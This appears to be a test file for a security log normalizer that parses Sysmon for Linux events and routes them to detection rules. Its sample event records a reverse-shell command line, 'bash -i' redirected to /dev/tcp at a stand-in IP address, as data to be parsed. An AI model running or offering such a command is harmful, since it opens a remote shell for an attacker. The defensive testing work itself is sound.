import { describe, expect, it } from "vitest";
import { sysmonLinux } from "../../../../services/normalize/windows/sysmon-linux.ts";
import { windowsXml } from "../../../../services/normalize/windows/windows-xml.ts";
import { fieldOf, iso, parseLine, sniffLine, survivesAnything } from "../format-check.ts";
import { routeOf } from "../route-check.ts";

function event(id: number): string {
  return `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>${id}</EventID><TimeCreated SystemTime="2026-11-21T04:38:16.123456000Z"/><EventRecordID>7</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer></System><EventData><Data Name="Image">/bin/bash</Data><Data Name="CommandLine">bash -i &gt;&amp; /dev/tcp/203.0.113.7/1</Data></EventData></Event>`;
}
const FRAMED = `Nov 21 05:38:16 web01 sysmon: ${event(1)}`;

describe("Sysmon for Linux", () => {
  it("is read behind syslog and bare", () => {
    for (const line of [FRAMED, event(1)]) {
      expect(sniffLine(sysmonLinux, line)).toBe(1);
      const { record, time, identity } = parseLine(sysmonLinux, line);
      expect(fieldOf(sysmonLinux.shape, record, "CommandLine")).toBe(
        "bash -i >& /dev/tcp/203.0.113.7/1",
      );
      expect(iso(time)).toBe("2026-11-21T04:38:16.123Z");
      expect(identity).toBe("web01/Linux-Sysmon/Operational/7");
      expect(sysmonLinux.ecs(record)).toMatchObject({
        "host.os.type": "linux",
        "process.executable": "/bin/bash",
      });
    }
  });

  it.each([
    [1, "linux / process_creation / sysmon"],
    [3, "linux / network_connection / sysmon"],
    [5, "linux / process_termination / sysmon"],
    [11, "linux / file_event / sysmon"],
    [23, "linux / file_delete / sysmon"],
    [99, "linux /  / sysmon"],
  ])("routes event %i to the rules for Linux", (id, expected) => {
    expect(routeOf(sysmonLinux.shape, parseLine(sysmonLinux, event(id)).record)).toBe(expected);
  });

  it.each(["", "Nov 21 05:38:16 web01 sysmon: Sysmon v1.3.3", event(1).replace("Linux-", "")])(
    "does not claim %.60j",
    (line) => {
      expect(sniffLine(sysmonLinux, line)).toBe(0);
    },
  );

  it("is no event of Windows", () => {
    expect(sniffLine(windowsXml, FRAMED)).toBe(0);
  });

  it("survives any line", () => survivesAnything(sysmonLinux, [FRAMED, event(3)]));
});
